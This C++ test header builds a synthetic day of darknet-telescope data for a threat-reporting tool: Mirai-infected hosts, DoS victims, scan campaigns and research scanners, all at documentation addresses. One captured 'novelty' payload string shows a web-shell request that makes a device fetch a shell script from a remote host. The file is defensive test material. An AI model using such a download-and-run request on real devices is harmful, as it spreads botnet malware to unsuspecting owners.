// A day for tests: infected hosts, victims, campaigns and scanners of two operators and of nobody.
#pragma once

#include <string>
#include <vector>

#include "act/report/forms.hpp"
#include "intel/registry/registry_testing.hpp"

namespace noroshi::report {

inline constexpr base::Micros kTestDay = 1'768'348'800'000'000;  // 2026-01-14T00:00:00Z

inline net::Address address(std::string_view text) { return net::Address::parse(text).value(); }

inline registry::Registry test_registry() {
  return registry::read_test_registry(registry::signed_by_test_key(registry::test_body())).value();
}

inline model::InfectedHost infected(std::string_view text, std::string family,
                                    model::Standing standing) {
  model::InfectedHost host;
  host.address = address(text);
  host.family = std::move(family);
  host.probability = 0.97;
  host.prior = -4;
  host.evidence = {{.name = "mirai_mark",
                    .value = 118,
                    .unit = "packets",
                    .weight = 7.476,
                    .text = "118 of 118 SYNs carry the target's address as sequence number",
                    .counts = {{"packets", 118}}}};
  host.standing = standing;
  host.first_seen = kTestDay + 3 * base::kHour;
  host.last_seen = kTestDay + 21 * base::kHour + 5 * base::kSecond;
  host.days = 1;
  host.packets = 118;
  host.targets = 97;
  host.ports = {"23/tcp", "2323/tcp"};
  host.sightings = {{.time = kTestDay + 3 * base::kHour + 250 * base::kMillisecond,
                     .clock_error = base::kSecond,
                     .source = host.address,
                     .source_port = std::uint16_t{40'001},
                     .protocol = 6,
                     .destination = address("203.0.113.77"),
                     .destination_port = 23},
                    {.time = kTestDay + 21 * base::kHour,
                     .clock_error = base::kSecond,
                     .source = host.address,
                     .source_port = std::uint16_t{52'345},
                     .protocol = 6,
                     .destination = address("203.0.113.78"),
                     .destination_port = 2323}};
  host.sensor = "dark-1";
  host.method = std::string(kMethod);
  host.version = "1";
  return host;
}

inline model::DosVictim victim(std::string_view text) {
  model::DosVictim one;
  one.victim = address(text);
  one.first = kTestDay + 9 * base::kHour;
  one.last = one.first + 10 * base::kMinute;
  one.packets = 5'120;
  one.octets = 204'800;
  one.most_in_minute = 900;
  one.targets = 350;
  one.protocol = 6;
  one.ports = {{443, 5'000}, {80, 120}};
  one.replies = {{"rst", 20}, {"syn-ack", 5'100}};
  return one;
}

inline scan::Day test_day() {
  using model::Standing;
  scan::Day day;
  day.begin = kTestDay;
  day.end = kTestDay + base::kDay;
  day.infected = {infected("192.0.2.7", "mirai", Standing::New),
                  infected("192.0.2.9", "mirai", Standing::Persistent),
                  infected("192.0.2.70", "iot-unmarked", Standing::Returned),
                  infected("192.0.2.200", "mirai", Standing::Cleared),
                  infected("198.51.100.4", "mirai-like", Standing::New),
                  infected("203.0.113.5", "mirai", Standing::New),
                  infected("2001:db8::5", "mirai-like", Standing::New)};
  day.victims = {victim("192.0.2.80"), victim("203.0.113.99"), victim("2001:db8::80")};
  day.hosts = {{.network = "example-telecom",
                .family = "mirai",
                .addresses = 2,
                .hosts = 1.6,
                .low = 1,
                .high = 2.4},
               {.network = "campus",
                .family = "iot-unmarked",
                .addresses = 1,
                .hosts = 1,
                .low = 1,
                .high = 1.5}};
  day.surges = {{.service = {5555, 6},
                 .at = kTestDay + 6 * base::kHour,
                 .hosts_before = 2.5,
                 .hosts_now = 41,
                 .score = 18.2}};
  day.surge_threshold = 9.5;
  day.novelties = {{.service = {9530, 6},
                    .payload = "",
                    .payload_hash = 0,
                    .first = kTestDay + base::kHour,
                    .hosts = 12},
                   {.service = {8080, 6},
                    .payload = "GET /shell?wget+http://203.0.113.66/a.sh\r\n",
                    .payload_hash = 7,
                    .first = kTestDay + 2 * base::kHour,
                    .hosts = 3}};
  day.campaigns = {{.id = "c-1",
                    .tool = "mirai",
                    .services = {{23, 6}, {2323, 6}},
                    .sources = {address("192.0.2.7"), address("192.0.2.9"), address("203.0.113.5")},
                    .first = kTestDay + 3 * base::kHour,
                    .last = kTestDay + 21 * base::kHour,
                    .packets = 354,
                    .targets = 200,
                    .profile = "window 14600, no options",
                    .research = false,
                    .synchronised = true,
                    .chance = 1e-6}};
  day.researchers = {{.address = address("198.51.100.200"),
                      .list = "example-scan",
                      .reason = "named by the list",
                      .packets = 70'000},
                     {.address = address("203.0.113.200"),
                      .list = "",
                      .reason = "asked 60,000 ports of few targets",
                      .packets = 90'000}};
  day.services = {{.service = {23, 6}, .hosts = 40, .packets = 900},
                  {.service = {5555, 6}, .hosts = 41, .packets = 300}};
  for (int hour = 0; hour < 24; ++hour) {
    if (hour == 4) continue;  // the sensor was off
    model::TelescopeHour one;
    one.sensor = "dark-1";
    one.begin = kTestDay + hour * base::kHour;
    one.end = one.begin + base::kHour;
    one.packets = static_cast<std::uint64_t>(1'000 + 40 * hour);
    one.classes = {{"scan", one.packets - 100}, {"backscatter", 100}};
    one.lost = hour == 12 ? 50 : 0;
    day.hours.push_back(one);
  }
  return day;
}

inline Reporter test_reporter() {
  return Reporter::parse("Example CSIRT <report@csirt.example>").value();
}

/// Every form of a selection, by name.
inline std::vector<std::pair<std::string, std::string>> every_form(const Selection& selection) {
  return {{"findings", findings_form(selection)},
          {"infected", infected_form(selection)},
          {"darknet4", darknet_form(selection, Family::V4)},
          {"darknet6", darknet_form(selection, Family::V6)},
          {"targets4", targets_form(selection, Family::V4)},
          {"targets6", targets_form(selection, Family::V6)},
          {"xarf", xarf_form(selection, test_reporter())},
          {"stix", stix_form(selection, test_reporter())},
          {"page-en", page_form(selection, base::Language::English)},
          {"page-ja", page_form(selection, base::Language::Japanese)}};
}

}  // namespace noroshi::report
